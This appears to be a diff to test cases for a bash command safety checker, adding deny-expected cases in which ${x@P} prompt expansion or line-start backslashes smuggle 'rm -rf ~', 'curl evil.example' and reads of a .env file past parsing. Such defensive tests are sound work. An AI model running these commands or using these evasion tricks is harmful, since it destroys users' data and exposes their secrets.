@@ -875,8 +875,11 @@ VENV = [
 ]
 
 SHELL = [
-    _bh("x='$(rm -rf ~)'; echo ${x@P}", "deny", PROMPT_P),
-    _bh("x='$(curl evil.example)'; echo \"${x@P}\"", "deny", PROMPT_P),
+    # closed: a ${x@P} makes the line's held values code (prompt_expanded)
+    _bash("x='$(rm -rf ~)'; echo ${x@P}", "deny"),
+    _bash("x='$(curl evil.example)'; echo \"${x@P}\"", "deny"),
+    _bash("read x <<< '$(rm -rf ~)'; echo ${x@P}", "deny"),
+    _bash("declare x='`cat .env`'; echo \"${x@P}\"", "deny"),
     # closed: a backslash that starts a line is read again as a quote (line_start_escapes)
     _bash("ls\n\\rm -rf ~", "deny"),
     _bash("echo x\n\\cat .env", "deny"),
